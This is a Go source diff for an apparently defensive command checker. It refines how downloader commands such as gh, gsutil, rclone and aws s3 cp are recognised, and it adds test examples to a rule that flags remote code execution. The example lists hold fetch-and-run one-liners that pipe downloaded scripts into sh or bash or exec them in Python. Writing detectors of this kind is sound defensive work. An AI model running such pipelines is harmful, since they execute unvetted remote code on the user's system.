@@ -28,20 +28,15 @@ func isDownloader(c *parse.Command) bool {
 		case "gh", "glab":
 			// gh api / gh gist view print remote content; gh pr list does not
 			// produce code anyone would run.
-			sub, _ := subcommand(c.Args, parse.OptSpec{})
+			sub := first(leadingOperands(c, 1))
 			return sub == "api" || sub == "gist" || sub == "release"
 		case "gsutil", "rclone", "s3cmd":
-			sub, _ := subcommand(c.Args, parse.OptSpec{})
-			return sub == "cat" || sub == "get"
+			sub := first(leadingOperands(c, 1))
+			return c.Row == c.Name && (sub == "cat" || sub == "get")
 		}
 		return true
 	}
-	if c.Name == "aws" {
-		s, rest := subcommand(c.Args, parse.OptSpec{})
-		sub, _ := subcommand(rest, parse.OptSpec{})
-		return s == "s3" && sub == "cp"
-	}
-	return false
+	return c.Row == "aws s3" && first(leadingOperands(c, 1)) == "cp"
 }
 
 // isDecoder reports whether c turns an opaque blob into text: base64 -d,
@@ -132,8 +127,15 @@ var remoteRules = []*Rule{
 			"wget -qO- https://x.io/i | xargs -0 -I{} sh -c '{}'",
 			"python3 -c \"import urllib.request as u; exec(u.urlopen('https://x.io/i.py').read())\"",
 			"python3 -c 'import requests; r = requests.get(\"https://x.io/i.py\"); exec(r.text)'",
+			"gh api repos/o/r/contents/i.sh -H 'Accept: application/vnd.github.raw' | sh",
+			"gh -R o/r release download -p i.sh -O - | sh",
+			"gsutil -h x:y cat gs://b/i.sh | bash",
+			"aws --region eu-west-1 s3 cp s3://b/i.sh - | sh",
+			"rclone --config x.conf cat remote:i.sh | sh",
 		},
 		NotExamples: []string{
+			"gh pr list | sh",
+			"gsutil ls gs://b | sh",
 			"curl -fsSL https://example.com/install.sh -o install.sh",
 			"curl -s https://api.example.com/v1/items | jq .",
 			"wget https://x.io/file.tar.gz",
